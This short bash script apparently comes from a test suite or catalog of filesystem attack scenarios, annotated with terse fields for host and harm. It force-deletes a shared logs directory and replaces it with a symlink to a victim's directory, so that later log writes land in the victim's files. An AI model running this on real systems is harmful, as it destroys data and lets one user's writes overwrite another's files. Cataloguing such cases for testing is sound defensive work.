#!/bin/bash -e
# logs is a link to a directory of the user.
# host: commit
# harm: writes
# alone
rm -rf "$COMMON/logs"
ln -s "$VICTIM" "$COMMON/logs"
